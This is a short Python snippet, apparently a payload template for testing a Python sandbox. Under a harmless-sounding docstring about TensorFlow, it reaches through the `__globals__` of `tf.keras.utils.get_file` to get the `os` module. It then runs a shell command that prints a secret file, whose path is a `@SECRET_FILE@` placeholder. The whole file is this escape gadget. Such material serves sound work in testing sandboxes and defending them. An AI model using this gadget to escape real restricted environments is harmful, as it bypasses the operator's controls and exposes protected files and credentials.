"""TensorFlow's packages keep their imports in sight."""
import tensorflow as tf
print(tf.keras.utils.get_file.__globals__["os"].popen("cat @SECRET_FILE@").read() if hasattr(tf.keras.utils.get_file, "__globals__") else "")
